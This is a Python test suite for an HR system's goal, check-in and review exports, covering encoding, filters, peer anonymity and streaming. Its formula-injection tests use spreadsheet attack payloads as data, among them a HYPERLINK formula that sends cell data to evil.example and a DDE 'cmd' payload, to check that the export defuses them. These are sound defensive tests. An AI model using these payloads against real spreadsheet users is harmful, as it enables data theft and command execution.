"""HR exports: headers and values, CSV that Excel opens cleanly, JSON, filters, peer anonymity, streaming."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta, timezone

import pytest
from sqlalchemy import event, text
from sqlmodel import Session, select

from storage import exports
from storage.models import CheckIn, Goal, Person, Review, ReviewCycle, Team
from storage.org import import_org_csv
from storage.weeks import shift_week
from tests.builders import org_csv
from tests.queries import counting_queries

NOW = datetime(2026, 11, 23, 9, 0, tzinfo=UTC)  # the `clock` fixture's Monday, in ISO week 2026-W48
DUE = date(2027, 6, 30)

# Ada manages Alan and Li Lei (Platform); Bob manages Carol (Data); Grace is HR.
ORG = [
    ["UHR1", "Grace Hopper", "grace@example.com", "", "People", "hr", "America/New_York", "en-US"],
    ["UMGR1", "Ada Lovelace", "ada@example.com", "", "Platform", "manager", "Europe/London", "en-GB"],
    ["UEMP1", "Alan Turing", "alan@example.com", "UMGR1", "Platform", "employee", "Europe/London", "en-GB"],
    ["UEMP2", "李雷", "li.lei@example.com", "UMGR1", "Platform", "employee", "Asia/Shanghai", "zh-CN"],
    ["UMGR2", "Bob Noyce", "bob@example.com", "", "Data", "manager", "America/Los_Angeles", "en"],
    ["UEMP3", "Carol Shaw", "carol@example.com", "UMGR2", "Data", "employee", "", ""],
]


@pytest.fixture
def people(session: Session) -> dict[str, Person]:
    import_org_csv(session, org_csv(ORG), now=NOW)
    return {person.slack_id: person for person in session.exec(select(Person))}


@pytest.fixture
def teams(session: Session, people) -> dict[str, Team]:
    return {team.name: team for team in session.exec(select(Team))}


def add(session: Session, row):
    session.add(row)
    session.flush()
    return row


def goal(session: Session, owner: Person, *, at: datetime = NOW, **fields) -> Goal:
    values = {
        "level": "individual", "owner_id": owner.id, "team_id": owner.team_id, "title": "Onboard 10 pilots",
        "start_value": 0.0, "target_value": 10.0, "current_value": 3.0, "due_date": DUE,
        "created_by_id": owner.id, "created_at": at, "updated_at": at,
    }
    return add(session, Goal(**(values | fields)))


def checkin(session: Session, person: Person, week: str = "2026-W48", **fields) -> CheckIn:
    values = {"person_id": person.id, "week": week, "submitted_at": NOW, "updated_at": NOW, "confidence": 4}
    return add(session, CheckIn(**(values | fields)))


def cycle(session: Session, name: str = "2026 H2", *, anonymous: bool = True) -> ReviewCycle:
    return add(session, ReviewCycle(
        name=name, period_start=date(2026, 7, 1), period_end=date(2026, 12, 31), self_due=date(2027, 1, 8),
        peer_due=date(2027, 1, 15), manager_due=date(2027, 1, 22), peers_anonymous=anonymous, created_at=NOW,
    ))


def review(session: Session, author: Person, subject: Person, *, kind: str = "peer", at: datetime = NOW,
           review_cycle: ReviewCycle | None = None, **fields) -> Review:
    values = {
        "kind": kind, "author_id": author.id, "subject_id": subject.id, "cycle_id": review_cycle and review_cycle.id,
        "period": review_cycle and review_cycle.name, "text": "Solid work", "rating": 4, "created_at": at,
        "submitted_at": at,
    }
    return add(session, Review(**(values | fields)))


def as_csv(session: Session, kind: str, **filters) -> str:
    out = io.StringIO()
    exports.write_csv(exports.rows(session, kind, **filters), out, kind=kind)
    return out.getvalue()


def csv_records(text: str) -> list[list[str]]:
    """Read CSV text as Excel would: the BOM marks UTF-8, records end in CRLF, quoted newlines stay."""
    decoded = text.encode("utf-8").decode("utf-8-sig")
    return list(csv.reader(io.StringIO(decoded, newline="")))


def csv_dicts(session: Session, kind: str, **filters) -> list[dict[str, str]]:
    header, *records = csv_records(as_csv(session, kind, **filters))
    return [dict(zip(header, record, strict=True)) for record in records]


def as_json(session: Session, kind: str, **filters) -> str:
    out = io.StringIO()
    exports.write_json(exports.rows(session, kind, **filters), out, kind=kind)
    return out.getvalue()


# --- headers and values ------------------------------------------------------------------------


def test_the_goals_export_has_its_header_and_a_row(session, people, teams):
    alan = people["UEMP1"]
    made = goal(session, alan, metric="pilots live", unit="pilots", status="on_track", weight=2.0)

    header, row = csv_records(as_csv(session, "goals"))

    assert tuple(header) == exports.COLUMNS["goals"]
    assert dict(zip(header, row, strict=True)) == {
        "id": str(made.id), "level": "individual", "team": "Platform", "owner": "Alan Turing",
        "owner_email": "alan@example.com", "parent_id": "", "title": "Onboard 10 pilots", "metric": "pilots live",
        "unit": "pilots", "start_value": "0.0", "target_value": "10.0", "current_value": "3.0", "progress": "0.3",
        "status": "on_track", "approval": "approved", "weight": "2.0", "due_date": "2027-06-30",
        "created_at": "2026-11-23T09:00:00Z", "updated_at": "2026-11-23T09:00:00Z", "archived": "false",
    }


def test_a_goal_with_children_shows_their_rolled_up_progress_as_the_app_does(session, people, teams):
    ada, alan = people["UMGR1"], people["UEMP1"]
    team_goal = goal(session, ada, level="team", title="Ship the pilot", current_value=0.0)
    goal(session, alan, parent_id=team_goal.id, current_value=10.0)
    goal(session, people["UEMP2"], parent_id=team_goal.id, title="Train 3 users", current_value=0.0, target_value=3.0)

    progress = {row["title"]: row["progress"] for row in exports.rows(session, "goals")}

    assert progress == {"Ship the pilot": 0.5, "Onboard 10 pilots": 1.0, "Train 3 users": 0.0}


def test_an_archived_goal_says_so(session, people):
    goal(session, people["UEMP1"], archived_at=NOW)

    assert [row["archived"] for row in exports.rows(session, "goals")] == [True]


def test_the_checkins_export_has_its_header_and_a_row(session, people):
    checkin(session, people["UEMP2"], late=True, confidence=2, highlights="上线了", blockers=None, help_needed="评审")

    header, row = csv_records(as_csv(session, "checkins"))

    assert tuple(header) == exports.COLUMNS["checkins"]
    assert dict(zip(header, row, strict=True)) == {
        "week": "2026-W48", "person": "李雷", "email": "li.lei@example.com", "team": "Platform",
        "manager": "Ada Lovelace", "submitted_at": "2026-11-23T09:00:00Z", "late": "true", "confidence": "2",
        "highlights": "上线了", "blockers": "", "help_needed": "评审", "answers": "",
    }


def test_the_reviews_export_has_its_header_and_a_row(session, people):
    review_cycle = cycle(session)
    made = review(session, people["UMGR1"], people["UEMP1"], kind="manager", review_cycle=review_cycle,
                  assessment="exceeds", text="Led the pilot")

    header, row = csv_records(as_csv(session, "reviews"))

    assert tuple(header) == exports.COLUMNS["reviews"]
    assert dict(zip(header, row, strict=True)) == {
        "id": str(made.id), "kind": "manager", "cycle": "2026 H2", "period": "2026 H2", "author": "Ada Lovelace",
        "subject": "Alan Turing", "subject_team": "Platform", "state": "submitted", "rating": "4",
        "assessment": "exceeds", "text": "Led the pilot", "to_improve": "", "criteria": "", "earlier_ratings": "",
        "in_reply_to": "", "submitted_at": "2026-11-23T09:00:00Z",
    }


def test_rows_carry_exactly_the_header_columns_in_order(session, people):
    goal(session, people["UEMP1"])
    checkin(session, people["UEMP1"])
    review(session, people["UMGR1"], people["UEMP1"], kind="manager")

    for kind in exports.KINDS:
        assert [tuple(row) for row in exports.rows(session, kind)] == [exports.COLUMNS[kind]]


def test_an_empty_export_is_just_the_header(session, people):
    out = io.StringIO()

    assert exports.write_csv(exports.rows(session, "checkins"), out, kind="checkins") == 0
    assert out.getvalue() == "\ufeff" + ",".join(exports.COLUMNS["checkins"]) + "\r\n"


# --- CSV and JSON ------------------------------------------------------------------------------

AWKWARD = '李雷说："上线了", and then\nsaid "ok", twice\r\nbye'


def test_csv_starts_with_a_bom_and_round_trips_chinese_quotes_commas_and_newlines(session, people):
    checkin(session, people["UEMP2"], highlights=AWKWARD)

    text = as_csv(session, "checkins")
    (row,) = csv_dicts(session, "checkins")

    assert text.startswith("\ufeffweek,person,")
    assert text.count("\r\n") >= 2  # records end the way Excel expects
    assert (row["person"], row["highlights"]) == ("李雷", AWKWARD)


def test_write_csv_counts_the_rows_it_wrote(session, people):
    for person in people.values():
        checkin(session, person)

    out = io.StringIO()

    assert exports.write_csv(exports.rows(session, "checkins"), out, kind="checkins") == len(people)


def test_json_is_an_array_one_object_per_line_that_round_trips(session, people):
    # Check-ins come week by week, in the order they were filed.
    checkin(session, people["UEMP2"], highlights=AWKWARD)
    checkin(session, people["UEMP1"], late=True, confidence=None)
    out = io.StringIO()

    count = exports.write_json(exports.rows(session, "checkins"), out, kind="checkins")

    text = out.getvalue()
    assert count == 2
    assert "李雷" in text  # readable, not \u escapes
    assert text.splitlines()[0] == "[" and text.splitlines()[-1] == "]" and len(text.splitlines()) == 4
    assert json.loads(text) == [
        {"week": "2026-W48", "person": "李雷", "email": "li.lei@example.com", "team": "Platform",
         "manager": "Ada Lovelace", "submitted_at": "2026-11-23T09:00:00Z", "late": False, "confidence": 4,
         "highlights": AWKWARD, "blockers": None, "help_needed": None, "answers": None},
        {"week": "2026-W48", "person": "Alan Turing", "email": "alan@example.com", "team": "Platform",
         "manager": "Ada Lovelace", "submitted_at": "2026-11-23T09:00:00Z", "late": True, "confidence": None,
         "highlights": None, "blockers": None, "help_needed": None, "answers": None},
    ]


def test_an_empty_json_export_is_an_empty_array(session, people):
    out = io.StringIO()

    assert exports.write_json(exports.rows(session, "reviews"), out, kind="reviews") == 0
    assert json.loads(out.getvalue()) == []


def test_json_keeps_goal_numbers_and_dates(session, people):
    goal(session, people["UEMP1"], start_value=-5.0)

    (row,) = json.loads(as_json(session, "goals"))

    assert (row["start_value"], row["progress"], row["due_date"]) == (-5.0, 0.5333, "2027-06-30")
    assert row["archived"] is False


# --- formula injection -------------------------------------------------------------------------


def test_text_excel_would_run_as_a_formula_gets_a_leading_apostrophe(session, people):
    checkin(session, people["UEMP1"], highlights='=HYPERLINK("http://evil.example/?"&A1,"click")',
            blockers="+1 more week", help_needed="@SUM(A1:A9)")
    checkin(session, people["UEMP2"], highlights="-2 days late", blockers="\t=1+1", help_needed="fine = good")

    alan, li = csv_dicts(session, "checkins")

    assert (alan["highlights"], alan["blockers"], alan["help_needed"]) == (
        '\'=HYPERLINK("http://evil.example/?"&A1,"click")', "'+1 more week", "'@SUM(A1:A9)")
    assert (li["highlights"], li["blockers"], li["help_needed"]) == ("'-2 days late", "'\t=1+1", "fine = good")


def test_numbers_are_not_mistaken_for_formulas_and_json_keeps_text_as_written(session, people):
    goal(session, people["UEMP1"], title="=cmd|' /C calc'!A0", start_value=-5.0, target_value=-1.0)

    (row,) = csv_dicts(session, "goals")
    (element,) = json.loads(as_json(session, "goals"))

    assert (row["title"], row["start_value"], row["target_value"]) == ("'=cmd|' /C calc'!A0", "-5.0", "-1.0")
    assert element["title"] == "=cmd|' /C calc'!A0"


# --- filters -----------------------------------------------------------------------------------


def test_since_keeps_goals_updated_on_or_after_that_day(session, people):
    alan = people["UEMP1"]
    goal(session, alan, title="Old", at=datetime(2026, 11, 22, 23, 59, tzinfo=UTC))
    goal(session, alan, title="New", at=datetime(2026, 11, 23, 0, 0, tzinfo=UTC))

    assert [row["title"] for row in exports.rows(session, "goals", since=date(2026, 11, 23))] == ["New"]


def test_since_keeps_checkins_from_the_week_holding_that_day_on(session, people):
    alan = people["UEMP1"]
    for week in ("2026-W46", "2026-W47", "2026-W48"):
        checkin(session, alan, week)

    thursday_of_w47 = date(2026, 11, 19)

    assert [row["week"] for row in exports.rows(session, "checkins", since=thursday_of_w47)] == ["2026-W47", "2026-W48"]


def test_since_compares_weeks_across_a_new_year(session, people):
    alan = people["UEMP1"]
    for week in ("2026-W52", "2026-W53", "2027-W01"):
        checkin(session, alan, week)

    assert [row["week"] for row in exports.rows(session, "checkins", since=date(2026, 12, 28))] == [
        "2026-W53", "2027-W01"]


def test_since_keeps_reviews_created_on_or_after_that_day(session, people):
    ada, alan = people["UMGR1"], people["UEMP1"]
    review(session, ada, alan, kind="manager", text="before", at=NOW - timedelta(days=2))
    review(session, ada, alan, kind="manager", text="after", at=NOW)

    assert [row["text"] for row in exports.rows(session, "reviews", since=NOW.date())] == ["after"]


def test_team_keeps_goals_of_its_people_and_its_team_goals(session, people, teams):
    ada, carol, bob = people["UMGR1"], people["UEMP3"], people["UMGR2"]
    goal(session, people["UEMP1"], title="Alan's")
    goal(session, ada, level="team", title="Platform's")
    goal(session, carol, title="Carol's")
    goal(session, bob, level="team", title="Data's")
    # Bob owns a team goal for Platform too (he looked after it once): it is Platform's.
    goal(session, bob, level="team", team_id=teams["Platform"].id, title="Platform's, by Bob")

    titles = [row["title"] for row in exports.rows(session, "goals", team="Platform")]

    assert titles == ["Alan's", "Platform's", "Platform's, by Bob"]


def test_team_keeps_checkins_of_its_people(session, people):
    for person in people.values():
        checkin(session, person)

    names = [row["person"] for row in exports.rows(session, "checkins", team="Data")]

    assert names == ["Bob Noyce", "Carol Shaw"]


def test_team_keeps_reviews_about_its_people(session, people):
    ada, alan, bob, carol = people["UMGR1"], people["UEMP1"], people["UMGR2"], people["UEMP3"]
    review(session, ada, alan, kind="manager", text="about Alan")
    review(session, bob, carol, kind="manager", text="about Carol")
    review(session, alan, carol, kind="peer", text="Alan on Carol")

    texts = [row["text"] for row in exports.rows(session, "reviews", team="Data")]

    assert texts == ["about Carol", "Alan on Carol"]


def test_filters_combine(session, people):
    checkin(session, people["UEMP1"], "2026-W47")
    checkin(session, people["UEMP1"], "2026-W48")
    checkin(session, people["UEMP3"], "2026-W48")

    found = exports.rows(session, "checkins", since=NOW.date(), team="Platform")

    assert [(row["person"], row["week"]) for row in found] == [("Alan Turing", "2026-W48")]


def test_an_unknown_team_is_refused_before_anything_is_written(session, people):
    with pytest.raises(LookupError, match="no team named 'Nope'"):
        exports.rows(session, "checkins", team="Nope")


def test_an_unknown_kind_is_refused(session):
    with pytest.raises(ValueError, match="unknown export 'people'"):
        exports.rows(session, "people")


# --- peer anonymity and private notes ----------------------------------------------------------


def test_a_peer_in_an_anonymous_cycle_is_shown_as_anonymous(session, people):
    review(session, people["UEMP3"], people["UEMP1"], review_cycle=cycle(session, anonymous=True))

    assert [row["author"] for row in exports.rows(session, "reviews")] == ["Anonymous peer"]


def test_a_peer_in_a_named_cycle_is_shown_by_name(session, people):
    review(session, people["UEMP3"], people["UEMP1"], review_cycle=cycle(session, anonymous=False))

    assert [row["author"] for row in exports.rows(session, "reviews")] == ["Carol Shaw"]


def test_a_peer_review_outside_any_cycle_is_anonymous(session, people):
    review(session, people["UEMP3"], people["UEMP1"])

    assert [row["author"] for row in exports.rows(session, "reviews")] == ["Anonymous peer"]


def test_no_peer_name_appears_anywhere_in_the_reviews_export_of_an_anonymous_cycle(session, people):
    ada, alan, li, carol = people["UMGR1"], people["UEMP1"], people["UEMP2"], people["UEMP3"]
    anonymous = cycle(session, anonymous=True)
    review(session, alan, alan, kind="self", review_cycle=anonymous, text="I led the pilot")
    review(session, carol, alan, review_cycle=anonymous, text="Great partner")
    review(session, li, alan, review_cycle=anonymous, text="很好的同事")
    review(session, carol, alan, review_cycle=anonymous, state="requested", text=None, rating=None, submitted_at=None)
    review(session, ada, alan, kind="manager", review_cycle=anonymous, text="Strong half")

    exported = as_csv(session, "reviews") + as_json(session, "reviews")

    for peer in (carol, li):
        assert peer.name not in exported
        assert peer.email not in exported
    assert [row["author"] for row in csv_dicts(session, "reviews")] == [
        "Alan Turing", "Anonymous peer", "Anonymous peer", "Anonymous peer", "Ada Lovelace"]


def test_private_notes_are_never_exported(session, people):
    review(session, people["UMGR1"], people["UEMP1"], kind="manager", text="Strong half",
           private_notes="Coaching: talk about the zeppelin incident")

    exported = as_csv(session, "reviews") + as_json(session, "reviews")

    assert "zeppelin" not in exported
    assert "private_notes" not in exported


def test_the_writers_keep_to_the_header_whatever_a_row_carries(session):
    row = dict.fromkeys(exports.COLUMNS["reviews"], "x") | {"private_notes": "zeppelin"}
    out = io.StringIO()

    exports.write_csv([row], out, kind="reviews")
    exports.write_json([row], out, kind="reviews")

    assert "zeppelin" not in out.getvalue()


# --- streaming ---------------------------------------------------------------------------------


def test_the_checkins_export_streams_from_a_server_side_cursor_in_one_query(session, engine, people):
    for week in ("2026-W46", "2026-W47", "2026-W48"):
        for person in people.values():
            checkin(session, person, week)
    executed: list[tuple[str, dict]] = []

    def record(_connection, _cursor, statement, _parameters, context, _executemany) -> None:
        executed.append((statement, dict(context.execution_options)))

    event.listen(engine, "before_cursor_execute", record)
    try:
        stream = exports.rows(session, "checkins")
        assert isinstance(stream, Iterator) and not isinstance(stream, list | tuple)
        assert executed == []  # nothing runs until someone reads
        first = next(stream)
        stream.close()  # a reader may stop early; the cursor closes with it
    finally:
        event.remove(engine, "before_cursor_execute", record)

    assert first["week"] == "2026-W46"
    ((statement, options),) = executed
    assert statement.lstrip().upper().startswith("SELECT")
    assert options["stream_results"] is True and options["yield_per"] > 0


def test_reading_every_checkin_takes_one_query_however_many_there_are(session, engine, people):
    weeks = [shift_week("2025-W01", number) for number in range(100)]  # more rows than one fetched batch
    session.add_all(
        CheckIn(person_id=person.id, week=week, submitted_at=NOW, updated_at=NOW)
        for week in weeks
        for person in people.values()
    )
    session.flush()
    with counting_queries(engine) as statements:
        count = sum(1 for _ in exports.rows(session, "checkins"))

    assert count == len(weeks) * len(people) > exports._BATCH
    assert len(statements) == 1


def test_datetimes_from_any_zone_are_written_in_utc_with_a_z():
    shanghai = timezone(timedelta(hours=8))
    row = dict.fromkeys(exports.COLUMNS["checkins"]) | {"submitted_at": datetime(2026, 11, 23, 17, 30, tzinfo=shanghai)}
    out = io.StringIO()

    exports.write_csv([row], out, kind="checkins")
    exports.write_json([row], out, kind="checkins")

    assert out.getvalue().count("2026-11-23T09:30:00Z") == 2


def test_a_naive_datetime_is_refused_rather_than_guessed():
    row = dict.fromkeys(exports.COLUMNS["checkins"]) | {"submitted_at": datetime(2026, 11, 23, 17, 30)}

    with pytest.raises(ValueError, match="naive"):
        exports.write_csv([row], io.StringIO(), kind="checkins")


# --- write_export: what operators run, a fast path for check-ins to the same bytes ------------------


def exported(session: Session, kind: str, fmt: str = "csv", **filters) -> str:
    out = io.StringIO()
    exports.write_export(session, kind, out, fmt=fmt, **filters)
    return out.getvalue()


def written_row_by_row(session: Session, kind: str, fmt: str = "csv", **filters) -> str:
    return as_csv(session, kind, **filters) if fmt == "csv" else as_json(session, kind, **filters)


@pytest.fixture
def awkward_checkins(session, people):
    """Check-ins with every kind of value the writers treat differently, over more than one fetched batch."""
    alan, li, grace = people["UEMP1"], people["UEMP2"], people["UHR1"]  # Grace has no manager
    grace.email = None
    checkin(session, alan, "2026-W46", highlights='=HYPERLINK("http://evil.example/")', blockers="+1 week",
            help_needed="@SUM(A1)", late=True, confidence=None)
    checkin(session, li, "2026-W46", highlights=AWKWARD, blockers="", help_needed="-", confidence=1,
            submitted_at=NOW.replace(microsecond=120_000))
    checkin(session, grace, "2026-W47", highlights="\t=1+1", blockers="\rtab", help_needed="fine = good",
            submitted_at=datetime(2026, 11, 20, 23, 59, 59, 999_999, tzinfo=UTC))
    person_ids = [person.id for person in people.values()]
    session.add_all(
        CheckIn(person_id=person_id, week=week, submitted_at=NOW, updated_at=NOW, confidence=number % 5 + 1,
                highlights=f"Week {week} #{number}")
        for number, week in enumerate(shift_week("2023-W01", offset) for offset in range(200))
        for person_id in person_ids
    )
    session.flush()


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_write_export_writes_the_checkins_exactly_as_the_row_by_row_writers_do(session, awkward_checkins, fmt):
    out = io.StringIO()

    count = exports.write_export(session, "checkins", out, fmt=fmt)

    assert out.getvalue() == written_row_by_row(session, "checkins", fmt)
    assert count == len(list(exports.rows(session, "checkins"))) > 2 * exports._BATCH  # several fetched batches


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_write_export_keeps_to_the_since_and_team_filters_on_the_fast_path(session, awkward_checkins, fmt):
    for filters in ({"since": date(2026, 11, 16)}, {"team": "Platform"}, {"since": NOW.date(), "team": "People"}):
        assert exported(session, "checkins", fmt, **filters) == written_row_by_row(session, "checkins", fmt, **filters)


def test_write_export_defuses_formulas_and_says_late_as_text_in_csv(session, awkward_checkins):
    header, *records = csv_records(exported(session, "checkins", since=date(2026, 11, 9)))
    by_person = {record[1]: dict(zip(header, record, strict=True)) for record in records}

    alan, li, grace = by_person["Alan Turing"], by_person["李雷"], by_person["Grace Hopper"]
    assert (alan["highlights"], alan["blockers"], alan["help_needed"]) == (
        "'=HYPERLINK(\"http://evil.example/\")", "'+1 week", "'@SUM(A1)")
    assert (alan["late"], alan["confidence"], li["late"], li["help_needed"]) == ("true", "", "false", "'-")
    assert (li["highlights"], li["submitted_at"]) == (AWKWARD, "2026-11-23T09:00:00.120000Z")
    assert (grace["highlights"], grace["blockers"], grace["manager"], grace["email"]) == ("'\t=1+1", "'\rtab", "", "")
    assert grace["submitted_at"] == "2026-11-20T23:59:59.999999Z"


def test_write_export_gives_goals_and_reviews_as_the_row_by_row_writers_do(session, people):
    goal(session, people["UEMP1"], title="=cmd|' /C calc'!A0")
    review(session, people["UMGR1"], people["UEMP1"], kind="manager")

    for kind in ("goals", "reviews"):
        for fmt in ("csv", "json"):
            assert exported(session, kind, fmt) == written_row_by_row(session, kind, fmt)


def test_write_export_of_no_checkins_is_just_the_header_or_an_empty_array(session, people):
    assert exported(session, "checkins") == "\ufeff" + ",".join(exports.COLUMNS["checkins"]) + "\r\n"
    assert json.loads(exported(session, "checkins", "json")) == []


@pytest.mark.parametrize(("kind", "options", "error", "message"), [
    ("checkins", {"team": "Nope"}, LookupError, "no team named 'Nope'"),
    ("people", {}, ValueError, "unknown export 'people'"),
    ("checkins", {"fmt": "xlsx"}, ValueError, "unknown format 'xlsx'"),
])
def test_write_export_refuses_a_bad_request_before_writing_anything(session, people, kind, options, error, message):
    out = io.StringIO()

    with pytest.raises(error, match=message):
        exports.write_export(session, kind, out, **options)
    assert out.getvalue() == ""


def test_write_export_writes_utc_whatever_time_zone_the_database_session_uses(session, people, db_kind):
    if db_kind != "postgresql":
        pytest.skip("only PostgreSQL sessions have a time zone")
    checkin(session, people["UEMP1"], submitted_at=datetime(2026, 11, 23, 1, 30, tzinfo=UTC))
    session.execute(text("SET LOCAL TIME ZONE 'Asia/Shanghai'"))
    session.execute(text("SET LOCAL DateStyle = 'SQL, DMY'"))

    (row,) = json.loads(exported(session, "checkins", "json"))

    assert row["submitted_at"] == "2026-11-23T01:30:00Z"
